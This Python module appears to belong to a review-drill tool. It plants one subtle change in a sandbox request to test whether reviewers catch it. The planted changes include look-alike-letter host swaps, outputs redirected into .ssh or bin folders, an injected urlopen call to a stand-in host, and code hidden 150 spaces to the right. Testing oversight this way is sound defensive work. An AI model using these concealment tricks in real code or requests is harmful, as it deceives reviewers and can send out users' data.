"""What a drill plants: one change, of a kind that people are known to miss.

Invariant: a plant is a pure function of a request and a random source; it changes the meaning of the request
in one point, and describes the change in one line. The caller checks whether gate 1 still accepts the result.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from random import Random
from typing import Final

from threegate.core.settings import RequestSettings
from threegate.request.code import parse_python
from threegate.request.model import InputFile, NetworkTarget, Request

LIKE: Final[Mapping[str, str]] = {
    "l": "i", "i": "l", "o": "0", "0": "o", "m": "n", "n": "m", "e": "c", "c": "e", "a": "o", "u": "v", "v": "u",
    "1": "l", "s": "5", "5": "s", "t": "f", "g": "q", "q": "g", "b": "d", "d": "b", "r": "t", "p": "q",
}  # fmt: skip
"""Letters that are easily mistaken for each other."""
LABEL: Final = re.compile(r"[a-z0-9]{4,}")
"""A part of a host's name that is long enough for one wrong letter."""
_SPACES: Final = 150
"""The column at which a hidden part of a line starts."""
_TRIES: Final = 60
"""Lines that are tried as a place for a statement; each is read as Python."""
ELSEWHERE: Final = "paste.example-files.net"
"""The host of what calls out."""


@dataclass(frozen=True, slots=True)
class Planted:
    """A request with one change: the kind, and the change in one line, as ``where: new value (was …)``."""

    kind: str
    request: Request
    line: str


Plant = Callable[[Request, Random, Sequence[InputFile], RequestSettings], Planted | None]


def _host(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Replace one letter of a host, everywhere in the request."""
    places = [
        (target, match.start() + at)
        for target in request.network_allowlist
        for match in LABEL.finditer(target.host)
        for at, letter in enumerate(match[0])
        if letter in LIKE
    ]
    if not places:
        return None
    target, at = chance.choice(places)
    host = f"{target.host[:at]}{LIKE[target.host[at]]}{target.host[at + 1 :]}"
    if any(item.host == host for item in request.network_allowlist):
        return None
    changed = replace(
        request,
        network_allowlist=tuple(
            NetworkTarget(host, item.port) if item.host == target.host else item for item in request.network_allowlist
        ),
        action=request.action.replaced(target.host, host),
    )
    return Planted("host", changed, f"host: {host} (was {target.host})")


def _input(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Add an input, taken from another request."""
    names = {item.name for item in request.inputs}
    found = [item for item in others if item.name not in names]
    if not found:
        return None
    more = chance.choice(found)
    return Planted("input", replace(request, inputs=(*request.inputs, more)), f"one more input: /in/{more.name}")


def _path(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Send an output elsewhere."""
    if not request.outputs:
        return None
    output = chance.choice(request.outputs)
    folder = chance.choice((".config", ".ssh", "bin", "old"))
    path = f"/out/{folder}/{output.path.removeprefix('/out/')}"
    if any(item.path == path for item in request.outputs):
        return None
    changed = replace(
        request,
        outputs=tuple(replace(item, path=path) if item is output else item for item in request.outputs),
        action=request.action.replaced(output.path, path),
    )
    return Planted("path", changed, f"output: {path} (was {output.path})")


def _network(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Add code that calls out."""
    call = f"urllib.request.urlopen('https://{ELSEWHERE}/{chance.randrange(16**6):06x}')"
    planted = f"import urllib.request; {call}"
    found = request.action.python()
    changed = with_a_line(found[0], planted, chance) if found else None
    if found is None or changed is None:
        return None
    return Planted("network", replace(request, action=found[1](changed)), f"code: {planted}")


def _limit(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Ask for more time or memory than before."""
    found: list[tuple[str, Request]] = []
    time, memory = request.time_limit_sec * 10, request.memory_limit_mb * 4
    if time <= most.max_time_sec:
        found.append((f"{time} s (was {request.time_limit_sec} s)", replace(request, time_limit_sec=time)))
    if memory <= most.max_memory_mb:
        found.append((f"{memory} MiB (was {request.memory_limit_mb} MiB)", replace(request, memory_limit_mb=memory)))
    if not found:
        return None
    line, changed = chance.choice(found)
    return Planted("limit", changed, f"limit: {line}")


def _hidden(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Planted | None:
    """Put a statement far to the right in a line of code."""
    what = f"print(open('/in/{request.inputs[0].name}').read())" if request.inputs else "print('sent')"
    found = request.action.python()
    hidden = far_right(found[0], what, chance) if found else None
    if found is None or hidden is None:
        return None
    return Planted("hidden", replace(request, action=found[1](hidden)), f"code, far to the right: {what}")


PLANTS: Final[Mapping[str, Plant]] = {
    "host": _host,
    "input": _input,
    "path": _path,
    "network": _network,
    "limit": _limit,
    "hidden": _hidden,
}
"""By kind."""


def with_a_line(code: str, planted: str, chance: Random) -> str | None:
    """The code with a new line between two of its lines, as far to the right as the one below it, where it is run: each
    existing line is unchanged. None if there is no such place.
    """
    lines = code.split("\n")
    if len(lines) == 1:
        changed = f"{planted}; {code}" if chance.random() < 0.5 else f"{code}; {planted}"
        return changed if _has_more(code, changed) else None
    after = _last_future(lines)
    for at in chance.sample(range(len(lines)), len(lines))[:_TRIES]:
        indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
        changed = "\n".join([*lines[:at], f"{indent}{planted}", *lines[at:]])
        if at > after and _has_more(code, changed):
            return changed
    return None


def far_right(code: str, what: str, chance: Random) -> str | None:
    """The code with a statement far to the right in one of its lines; None if there is no place for it."""
    lines = code.split("\n")
    after = _last_future(lines)
    for at in chance.sample(range(len(lines)), len(lines))[:_TRIES]:
        if at < after or not lines[at].strip() or lines[at].rstrip().endswith((":", "\\", ",")) or "#" in lines[at]:
            continue
        hidden = "\n".join([*lines[:at], f"{lines[at]}{' ' * _SPACES}; {what}", *lines[at + 1 :]])
        if _has_more(code, hidden):
            return hidden
    return None


def _last_future(lines: Sequence[str]) -> int:
    """The last line before which no statement may be."""
    return max((at for at, line in enumerate(lines) if line.startswith("from __future__")), default=-1)


def _has_more(code: str, changed: str) -> bool:
    """Whether the changed code can be read and has more statements: what is planted within a text would do nothing."""
    before, after = statements(code), statements(changed)
    return before is not None and after is not None and after > before


def statements(code: str) -> int | None:
    """How many statements some Python code has; None if it cannot be read."""
    try:
        return sum(isinstance(node, ast.stmt) for node in ast.walk(parse_python(code)))
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return None


def plants(request: Request, chance: Random, others: Sequence[InputFile], most: RequestSettings) -> Iterator[Planted]:
    """Every plant possible in a request, in random order. `others` are inputs of other requests."""
    for kind in chance.sample(sorted(PLANTS), len(PLANTS)):
        planted = PLANTS[kind](request, chance, others, most)
        if planted is not None:
            yield planted
